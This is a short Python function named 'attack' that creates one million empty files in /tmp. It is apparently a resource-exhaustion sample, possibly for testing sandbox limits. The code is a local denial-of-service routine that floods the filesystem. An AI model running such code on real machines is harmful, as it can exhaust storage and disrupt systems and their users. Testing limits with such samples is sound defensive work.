def attack(x):
    for number in range(10**6):
        open(f"/tmp/{number}", "w").close()
